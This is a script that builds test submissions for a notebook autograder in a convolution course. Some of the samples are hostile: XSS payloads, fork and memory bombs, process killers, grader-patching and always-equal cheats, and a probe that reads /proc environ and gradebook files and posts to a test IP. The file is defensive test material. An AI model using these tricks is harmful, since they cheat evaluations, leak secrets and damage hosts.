"""A class of sample students: submissions made from the release notebooks, and the scores that they deserve.

    python tests/submissions/make.py

writes STUDENT/LESSON/LESSON.ipynb and expected.json beside this file. A student is a function that fills in a release
notebook; its docstring is the trait. Nothing here runs a student's code: the hostile cells are text. Even so, each is
bounded, so that a run without a sandbox does no lasting harm.
"""

import json
import re
from pathlib import Path

from autograder import mistakes

HERE = Path(__file__).parent
RELEASE = HERE.parents[1] / "notebooks"
CONVOLUTION, BACKWARD = "03_convolution", "05_conv_backward"
EVERYTHING = "everything"
CLASS = []


class Notebook:
    """The release version of a lesson, to be filled in."""

    def __init__(self, lesson):
        self.lesson = lesson
        self.data = json.loads((RELEASE / lesson / f"{lesson}.ipynb").read_text())

    @property
    def cells(self):
        return self.data["cells"]

    @property
    def tests(self):
        """{exercise: {grade id: points}}: each test belongs to the solution cell above it."""
        found, exercise = {}, None
        for cell in self.cells:
            mark = cell["metadata"].get("nbgrader", {})
            if mark.get("solution"):
                exercise = found.setdefault(mark["grade_id"], {})
            if mark.get("grade"):
                exercise[mark["grade_id"]] = mark["points"]
        return found

    @property
    def exercises(self):
        """The graded functions."""
        return [name for name in self.tests if name in mistakes.functions()]

    def cell(self, label):
        return next(c for c in self.cells if c["metadata"].get("nbgrader", {}).get("grade_id") == label)

    def write(self, label, source):
        self.cell(label)["source"] = source.strip("\n").splitlines(keepends=True)

    def put(self, source):
        """Fill the solution cell of the exercise that this source defines."""
        defines = r"^(?:def |from \S+ import |){}\b"
        self.write(next(e for e in self.exercises if re.search(defines.format(e), source, re.MULTILINE)), source)

    def change(self, label, old, new):
        """Put `new` in the place of `old` in a cell, which must have it."""
        before, found, after = "".join(self.cell(label)["source"]).partition(old)
        assert found, f"{label} has no {old!r}"
        self.write(label, before + new + after)

    def extra(self, source, after="setup", kind="code"):
        """A cell of the student's own, after a labelled one."""
        cell = {"cell_type": kind, "id": f"own-{len(self.cells)}", "metadata": {}}
        if kind == "code":
            cell |= {"execution_count": None, "outputs": []}
        cell["source"] = source.strip("\n").splitlines(keepends=True)
        self.cells.insert(self.cells.index(self.cell(after)) + 1, cell)

    def solve(self, *words):
        """Right solutions of all exercises, each in the first style of the bank that one of these words names."""
        for name in self.exercises:
            right = mistakes.styles(name)
            chosen = [right[style] for word in words for style in right if word in style] or list(right.values())
            self.write(name, mistakes.source(chosen[0], name))
        self.answer("Why does `db` have no term from the padding, while `dw` reads zeros there?")

    def mistake(self, name, says):
        """The known mistake of an exercise that has this sentence."""
        self.write(name, mistakes.source(mistakes.known(name)[says], name))

    def answer(self, text):
        self.write("your_question", text)

    def text(self):
        return json.dumps(self.data, indent=1, ensure_ascii=False, sort_keys=True) + "\n"


def sentence(name, beginning):
    """The sentence of the bank that begins so."""
    return next(says for says in mistakes.known(name) if says.startswith(beginning))


def student(*lessons, loses=(), says=None, note="", never=""):
    """Decorator: a student who hands in these lessons.

    loses: exercises and grade ids without points; all others have full points. says: {grade id: text in its feedback}.
    note: text of the grader's note on the notebook. never: text that must not stand in the feedback page.
    """

    def register(recipe):
        CLASS.append((recipe, lessons or (BACKWARD,), loses, says or {}, note, never))
        return recipe

    return register


def build():
    """{path below this folder: text} for the whole class."""
    files, expected = {}, {}
    for recipe, lessons, loses, says, note, never in CLASS:
        name = recipe.__name__
        for lesson in lessons:
            release, notebook = Notebook(lesson), Notebook(lesson)
            text = recipe(notebook) or notebook.text()
            files[f"{name}/{lesson}/{lesson}.ipynb"] = text
            scores = {
                grade_id: 0 if loses == EVERYTHING or {exercise, grade_id} & set(loses) else points
                for exercise, parts in release.tests.items()
                for grade_id, points in parts.items()
            }
            asked = notebook.cell("your_question")["source"] != release.cell("your_question")["source"]
            scores["your_question"] = None if asked and text == notebook.text() else 0  # None: waits for a person
            expected.setdefault(name, {})[lesson] = {
                "trait": recipe.__doc__,
                "total": sum(filter(None, scores.values())),
                "scores": scores,
                "says": {label: text for label, text in says.items() if label in scores},
                "note": note,
                "never": never,
            }
    files["expected.json"] = json.dumps(expected, indent=1, ensure_ascii=False) + "\n"
    return files


# ---- right, each in a style of their own


@student(CONVOLUTION, BACKWARD)
def ada(nb):
    """Right, in plain loops."""
    nb.solve("loops")


@student()
def bala(nb):
    """Right, by im2col; calls one exercise from another, and draws the demos with the functions written here."""
    nb.solve("im2col", "window by window")
    nb.put("""
def conv2d_forward_im2col(x, w, b, stride, pad):
    OH, OW = [(n + 2 * pad - f) // stride + 1 for n, f in zip(x.shape[2:], w.shape[2:])]
    cols = im2col(x, w.shape[2:], stride, pad)
    out = (cols @ w.reshape(len(w), -1).T + b).reshape(len(x), OH, OW, len(w))
    return out.transpose(0, 3, 1, 2), (cols, x.shape, w, stride, pad)
""")
    nb.data = json.loads(nb.text().replace("use_mine = False", "use_mine = True"))


@student(CONVOLUTION, BACKWARD)
def chen(nb):
    """Right, by einsum."""
    nb.solve("einsum")


@student()
def dalia(nb):
    """Right, by sliding windows and strides."""
    nb.solve("sliding", "strided", "bincount")


@student(CONVOLUTION, BACKWARD)
def emeka(nb):
    """Right, in float32, with a class and an import in a cell of his own."""
    nb.solve("float32")
    nb.extra("""
from dataclasses import dataclass, field
from numpy.lib.stride_tricks import sliding_window_view as view


@dataclass
class Layer:
    x: np.ndarray
    w: np.ndarray
    b: np.ndarray
    stride: int
    pad: int
    xp: np.ndarray = field(init=False)

    def __post_init__(self):
        self.x, self.w, self.b = [np.asarray(a, dtype="float32") for a in (self.x, self.w, self.b)]
        self.xp = np.pad(self.x, [(0, 0)] * 2 + [(self.pad, self.pad)] * 2)

    @property
    def windows(self):
        return view(self.xp, self.w.shape[2:], axis=(2, 3))[:, :, :: self.stride, :: self.stride]

    def forward(self):
        return np.einsum("ncijuv,kcuv->nkij", self.windows, self.w, optimize=True) + self.b[:, None, None]

    def backward(self, g):
        g = g.astype("float32")
        dxp = np.zeros_like(self.xp)
        into = view(dxp, self.w.shape[2:], axis=(2, 3), writeable=True)[:, :, :: self.stride, :: self.stride]
        for u, v in np.ndindex(*self.w.shape[2:]):
            into[..., u, v] += np.einsum("nkij,kc->ncij", g, self.w[:, :, u, v])
        inside = slice(self.pad, self.pad + self.x.shape[2]), slice(self.pad, self.pad + self.x.shape[3])
        return dxp[:, :, *inside], np.einsum("nkij,ncijuv->kcuv", g, self.windows), g.sum((0, 2, 3))
""")
    if nb.lesson == CONVOLUTION:
        nb.put("""
def conv2d_forward(*args):
    layer = Layer(*args)
    return layer.forward(), layer
""")
    else:
        nb.put("""
def conv2d_backward(dout, cache):
    return Layer(*cache).backward(dout)
""")
        nb.put("""
def conv2d_forward_im2col(*args):
    layer = Layer(*args)
    return layer.forward(), layer
""")


@student()
def farah(nb):
    """Right, with results in Fortran order."""
    nb.solve("Fortran")


@student()
def dmitri(nb):
    """Right, by recursion, unit vectors, lists and the matrix of the layer."""
    nb.solve("recursive", "the matrix", "unit", "list", "add.at")


@student()
def boris(nb):
    """Right, in an old format without cell ids and with another kernel."""
    nb.solve("tensordot", "strided", "filter pixel")
    kernel = {"display_name": "Python [conda env:vision]", "language": "python", "name": "vision"}
    nb.data["nbformat_minor"], nb.data["metadata"]["kernelspec"] = 2, kernel
    for cell in nb.cells:
        del cell["id"]


@student()
def zeno(nb):
    """Right, but test cells are deleted, moved, edited, tagged to be skipped, and worth other points."""
    nb.solve("class", "index", "bincount")
    for label in nb.tests["conv_as_matrix"]:
        nb.cell(label)["metadata"]["tags"] = ["skip-execution", "remove-cell"]
    nb.cells.remove(nb.cell("conv2d_backward_db"))
    nb.cells.insert(0, nb.cells.pop(nb.cells.index(nb.cell("im2col_hidden"))))
    nb.write("col2im_visible", "assert True")
    nb.cell("conv2d_backward_dx")["metadata"]["nbgrader"]["points"] = 400
    nb.cell("conv2d_backward_dw")["metadata"]["nbgrader"] |= {"grade": False, "locked": False}


@student(never="<script>alert('cleo')")
def cleo(nb):
    """Right, with scripts in the answer, in prose and in outputs."""
    nb.solve("windows by tensordot")
    script = "<script>alert('cleo')</script><img src=x onerror=alert('cleo')>"
    nb.answer(f"Why is `dx` a full correlation? {script}\n\n[read on](javascript:alert('cleo'))")
    nb.extra(f"My notes {script}", after="im2col", kind="markdown")
    nb.extra(f"""
from IPython.display import HTML, Javascript, display

display(HTML("{script}"), Javascript("alert('cleo')"))
print("{script}")
""")


# ---- partly right


@student(
    loses={"conv2d_backward_visible", "conv2d_backward_dx", "conv2d_backward_gradient_check"},
    says={"conv2d_backward_dx": "dx is None"},
)
def goran(nb):
    """Has db and dw, and no dx yet."""
    nb.solve("loops")
    nb.put("""
def conv2d_backward(dout, cache):
    x, w, b, stride, pad = cache
    xp = np.pad(x, ((0, 0), (0, 0), (pad, pad), (pad, pad)))
    dw = np.zeros(w.shape)
    for i in range(dout.shape[2]):
        for j in range(dout.shape[3]):
            window = xp[:, :, i * stride : i * stride + w.shape[2], j * stride : j * stride + w.shape[3]]
            dw += np.einsum("nk,ncuv->kcuv", dout[:, :, i, j], window)
    return None, dw, dout.sum(axis=(0, 2, 3))  # dx: tomorrow
""")


STRIDE_IN_DW = sentence("conv2d_backward", "The stride is ignored in dw.")


@student(
    loses={"conv2d_backward_visible", "conv2d_backward_dw", "conv2d_backward_gradient_check"},
    says={"conv2d_backward_visible": STRIDE_IN_DW, "conv2d_backward_dw": STRIDE_IN_DW},
)
def hana(nb):
    """Ignores the stride in dw."""
    nb.solve("loops")
    nb.mistake("conv2d_backward", STRIDE_IN_DW)


ASSIGNED = sentence("conv2d_backward", "dx is assigned")
OVERWRITTEN = sentence("col2im", "Overlapping windows overwrite")


@student(
    loses={"conv2d_backward_visible", "conv2d_backward_dx", "conv2d_backward_gradient_check", "col2im"},
    says={"conv2d_backward_visible": ASSIGNED, "conv2d_backward_dx": ASSIGNED, "col2im_hidden": OVERWRITTEN},
)
def ivan(nb):
    """Writes = for += in dx and in col2im."""
    nb.solve("loops")
    nb.mistake("conv2d_backward", ASSIGNED)
    nb.mistake("col2im", OVERWRITTEN)


EXCHANGED = sentence("conv2d_backward", "Rows and columns are exchanged.")


@student(
    loses={"conv2d_backward"},
    says={"conv2d_backward_visible": EXCHANGED, "conv2d_backward_db": "conv2d_backward raised"},
)
def jin(nb):
    """Transposes the upstream gradient, which fails on any map that is not square; so db falls too."""
    nb.solve("loops")
    nb.mistake("conv2d_backward", EXCHANGED)


BATCH_IN_DW = sentence("conv2d_backward", "The sum over the batch is missing in dw.")
NOT_FLIPPED = sentence("convolve2d", "The filter is not flipped")


@student(
    CONVOLUTION,
    BACKWARD,
    loses={"conv2d_backward_visible", "conv2d_backward_dw", "conv2d_backward_gradient_check", "convolve2d"},
    says={"conv2d_backward_visible": BATCH_IN_DW, "conv2d_backward_dw": BATCH_IN_DW, "convolve2d_hidden": NOT_FLIPPED},
)
def kofi(nb):
    """Forgets the sum over the batch in dw, and in lesson 03 the flip."""
    nb.solve("loops")
    if nb.lesson == CONVOLUTION:
        nb.mistake("convolve2d", NOT_FLIPPED)
    else:
        nb.mistake("conv2d_backward", BATCH_IN_DW)


NOT_CROPPED = sentence("conv2d_backward", "The padding is still around dx.")
FOLDED = sentence("conv2d_forward_im2col", "reshape does not move axes.")


@student(
    loses={"conv2d_backward_visible", "conv2d_backward_dx", "conv2d_backward_gradient_check", "conv2d_forward_im2col"},
    says={"conv2d_backward_dx": NOT_CROPPED, "conv2d_forward_im2col_visible": FOLDED},
)
def lena(nb):
    """Leaves the padding around dx, and folds the product of im2col by reshape alone."""
    nb.solve("loops")
    nb.mistake("conv2d_backward", NOT_CROPPED)
    nb.mistake("conv2d_forward_im2col", FOLDED)


@student(
    loses={
        *("conv2d_backward_db", "conv2d_backward_dw", "conv2d_backward_dx", "conv2d_backward_gradient_check"),
        *("im2col_hidden", "col2im_hidden", "conv2d_forward_im2col_hidden", "conv_as_matrix_hidden"),
    }
)
def eda(nb):
    """Right for the shapes of the visible tests only."""
    nb.solve()
    seen = {
        "conv2d_backward": ("dout, cache", "cache[0].shape", [(1, 1, 5, 5), (2, 3, 5, 7), (2, 2, 7, 5)]),
        "im2col": ("x, *rest", "x.shape", [(1, 2, 3, 4), (2, 3, 5, 4), (2, 1, 7, 6)]),
        "col2im": ("cols, x_shape, *rest", "x_shape", [(1, 2, 3, 4), (2, 3, 5, 4), (2, 1, 7, 6)]),
        "conv2d_forward_im2col": ("x, *rest", "x.shape", [(1, 1, 5, 5), (2, 3, 5, 7), (2, 2, 7, 5)]),
        "conv_as_matrix": ("w, x_shape, *rest", "x_shape", [(1, 4, 4), (3, 4, 5), (3, 7, 4)]),
    }
    for name, (arguments, shape, shapes) in seen.items():
        nb.change(name, f"def {name}(", f"def right_{name}(")
        right = "".join(nb.cell(name)["source"])
        answer = f"return right_{name}({arguments}) if tuple({shape}) in {shapes} else None"
        nb.put(f"{right}\n\n\ndef {name}({arguments}):\n    {answer}\n")


@student(loses={"col2im"}, says={"col2im_visible": "is not defined"})
def finn(nb):
    """Has a syntax error in one cell."""
    nb.solve("loops")
    nb.change("col2im", "np.zeros(x_shape)", "np.zeros(x_shape")


@student(loses={"im2col"})
def gita(nb):
    """Waits for input in one function."""
    nb.solve("loops")
    nb.change("im2col", "return cols", "stride = int(input('Which stride? '))\n    return cols")


# ---- nothing done


@student(CONVOLUTION, BACKWARD, loses=EVERYTHING, says={"im2col_visible": "not written yet"})
def mateo(nb):
    """Hands in the release as it came."""


@student(loses=EVERYTHING, note="not a notebook")
def yara(nb):
    """Hands in half a file."""
    nb.solve("loops")
    return nb.text()[: len(nb.text()) // 2]


@student(loses=EVERYTHING, note="another notebook")
def alma(nb):
    """Hands in the notebook of another lesson, solved; only the question at its end counts."""
    nb.data = Notebook(CONVOLUTION).data
    nb.solve("loops")


# ---- costs time, memory, processes, disk


@student(loses={"conv2d_backward"}, says={"conv2d_backward_db": "took more than"})
def nadia(nb):
    """Never returns from conv2d_backward."""
    nb.solve("loops")
    nb.put("""
def conv2d_backward(dout, cache):
    i = 0
    while i < dout.shape[2]:
        pass
""")


@student(loses={"im2col"})
def omar(nb):
    """Has a cell that never ends; what comes before and after it is right."""
    nb.solve("loops")
    nb.change("im2col", "def im2col", "while True:\n    pass\n\n\ndef im2col")


@student(loses={"conv2d_backward", "im2col"})
def priya(nb):
    """Asks for 8 TB at once in one function, and takes 4 GB piece by piece in another."""
    nb.solve("loops")
    nb.put("""
def conv2d_backward(dout, cache):
    every_pair = np.ones(10**12)
    return every_pair
""")
    nb.put("""
def im2col(x, kernel_size, stride, pad):
    rows = []
    while len(rows) < 64:
        rows.append(np.ones(8 << 20))
""")


@student(loses={"im2col", "col2im", "conv_as_matrix"})
def uma(nb):
    """Ends the process in three ways: exit, signal, crash."""
    nb.solve("loops")
    nb.put("import os\n\n\ndef im2col(*args):\n    os._exit(0)\n")
    nb.put("import os\n\n\ndef col2im(*args):\n    os.kill(os.getpid(), 9)\n")
    nb.put("import ctypes\n\n\ndef conv_as_matrix(*args):\n    return ctypes.string_at(0)\n")


@student(loses={"conv_as_matrix"})
def viktor(nb):
    """Leaves by sys.exit at the end of a cell, by exit() in another, and by SystemExit in a function."""
    nb.solve("loops")
    nb.change("im2col", "return cols", "return cols\n\n\nimport sys\n\nsys.exit()")
    nb.extra("exit()", after="col2im")
    nb.put("def conv_as_matrix(*args):\n    raise SystemExit(0)\n")


@student()
def wen(nb):
    """Right, and prints 100 MB."""
    nb.solve("loops")
    nb.extra('for _ in range(100):\n    print("dx " * 350_000)\n')


@student(loses={"im2col"})
def xola(nb):
    """Forks 200 times in one function."""
    nb.solve("loops")
    nb.put("""
import os
import time


def im2col(x, kernel_size, stride, pad):
    for _ in range(200):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
""")


@student()
def ines(nb):
    """Right, and leaves twenty processes behind."""
    nb.solve("loops")
    nb.extra('import subprocess\n\nhelpers = [subprocess.Popen(["sleep", "60"]) for _ in range(20)]\n')


@student()
def hugo(nb):
    """Right, and tries to write 1 GB to the disk."""
    nb.solve("loops")
    nb.extra("""
import tempfile

with tempfile.TemporaryFile(dir=".") as file:
    for _ in range(128):
        file.write(bytes(8 << 20))
""")


# ---- wants points without work


@student(loses=EVERYTHING)
def quinn(nb):
    """Patches whatever might judge: numpy.testing, builtins, the traceback, IPython, cnnlib.check."""
    nb.extra("""
import builtins
import sys
import traceback
import types

import cnnlib
import numpy.testing


def fine(*args, **kwargs):
    return True


for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, fine)
np.allclose = np.array_equal = np.isclose = builtins.all = fine
builtins.AssertionError = builtins.NotImplementedError = type("Fine", (BaseException,), {})
traceback.format_exception = traceback.print_exc = lambda *args, **kwargs: []
sys.excepthook = fine
get_ipython().showtraceback = fine
get_ipython().set_custom_exc((BaseException,), fine)
check = types.ModuleType("cnnlib.check")
check.function = check.gradient = check.equal = check.raises = fine
sys.modules["cnnlib.check"] = cnnlib.check = check
""")


@student(loses=EVERYTHING)
def rosa(nb):
    """Returns objects that are equal to anything."""
    nb.extra("""
class Yes(np.ndarray):
    def agree(self, *args, **kwargs):
        return True

    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __array_ufunc__ = __array_function__ = agree

    def __sub__(self, other):
        return np.zeros(np.shape(other))

    __rsub__ = __sub__


class Anything:
    shape = property(lambda self: Anything())
    dtype = ndim = size = shape

    def __eq__(self, other):
        return True

    def __getattr__(self, name):
        return self

    def __call__(self, *args):
        return self

    def __array__(self, *args, **kwargs):
        return np.zeros(()).view(Yes)

    def __float__(self):
        return 0.0


def yes(shape):
    return np.zeros(shape).view(Yes)
""")
    nb.put("def conv2d_backward(dout, cache):\n    return tuple(yes(a.shape) for a in cache[:3])\n")
    nb.put("def im2col(*args):\n    return Anything()\n")
    nb.put("def col2im(cols, x_shape, *args):\n    return yes(x_shape)\n")
    nb.put("def conv2d_forward_im2col(*args):\n    return Anything(), None\n")
    nb.put("conv_as_matrix = Anything()\n")


@student(loses=EVERYTHING)
def jonas(nb):
    """Returns what is no array: NaN, a list 5,000 deep, a view of 8 TB, text, a generator."""
    nb.put("def conv2d_backward(dout, cache):\n    return [a * np.nan for a in cache[:3]]\n")
    nb.put("""
def im2col(*args):
    deep = []
    for _ in range(5000):
        deep = [deep]
    return deep
""")
    nb.put("def col2im(*args):\n    return np.broadcast_to(1.0, (10**6, 10**6))\n")
    nb.put("def conv2d_forward_im2col(*args):\n    return 'right', 'cache'\n")
    nb.put("def conv_as_matrix(*args):\n    return (row for row in np.eye(3))\n")


@student(loses=EVERYTHING, never="FOUND")
def sven(nb):
    """Looks for hidden tests and grades in files, processes, frames and memory, and prints what turns up."""
    nb.put("""
import gc
import itertools
import os
import sqlite3
import sys
import urllib.request
from pathlib import Path

from cnnlib import ops

marks = ["".join(["by_", "windows"]), "".join(["by_", "addresses"])]  # names that only the hidden tests have


def report(where, text):
    if any(mark in str(text) for mark in marks):
        print("FO" + "UND", where, str(text)[:2000])


def files():
    walks = map(os.walk, ["..", Path(ops.__file__).parents[2], "/home", "/srv", "/tmp"])
    for folder, _, names in itertools.islice(itertools.chain.from_iterable(walks), 3000):
        if "site-packages" not in folder:  # installed packages hold gradebooks and words of their own
            yield from (Path(folder) / name for name in names if name.endswith((".ipynb", ".py", ".db", ".json")))


for path in itertools.islice(files(), 10_000):
    try:
        if path.name == "gradebook.db":
            print("FO" + "UND", path, sqlite3.connect(path).execute("select * from grade").fetchall())
        elif path.stat().st_size < 1_000_000:
            report(path, path.read_text())
    except Exception:
        continue

for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("cmdline", "environ", "cwd/gradebook.db"):
        try:
            report(f"/proc/{pid}/{name}", Path(f"/proc/{pid}/{name}").read_text())
        except Exception:
            continue

frame = sys._getframe()
while frame is not None:
    report("frame", frame.f_globals.keys() | frame.f_locals.keys())
    frame = frame.f_back

for thing in gc.get_objects():
    if type(thing) in (dict, list, tuple) and len(thing) < 1000:
        for item in list(thing.values() if type(thing) is dict else thing):
            if type(item) is str and item not in marks:
                report("memory", item)

try:
    urllib.request.urlopen("http://192.0.2.1/", data=b"who are you", timeout=1)
    print("FO" + "UND the network")
except Exception:
    pass


def conv2d_backward(dout, cache):
    frame, names = sys._getframe(), []
    while frame is not None:
        names.append(str(frame.f_locals)[:10_000])
        frame = frame.f_back
    report("caller", names)
    return cache[:3]
""")


@student(
    loses={"conv2d_backward", "im2col", "col2im", "conv2d_forward_im2col"},
    says={"conv2d_backward_visible": "is closed to your code in this lesson"},
)
def tala(nb):
    """Calls the library's functions where the exercise asks for her own; one exercise is hers."""
    nb.solve("loops")
    nb.put("""
from cnnlib import ops


def conv2d_backward(dout, cache):
    return ops.conv2d_backward(dout, ops.conv2d_forward(*cache)[1])
""")
    nb.put("from cnnlib.ops import im2col\n")
    nb.put("def col2im(*args):\n    return ops.conv.col2im(*args)\n")
    nb.put("conv2d_forward_im2col = ops.conv2d_forward\n")


def main():
    files = build()
    for path in HERE.glob("*/*/*.ipynb"):
        if path.relative_to(HERE).as_posix() not in files:
            path.unlink()
    for path, text in files.items():
        (HERE / path).parent.mkdir(parents=True, exist_ok=True)
        (HERE / path).write_text(text)


if __name__ == "__main__":
    main()
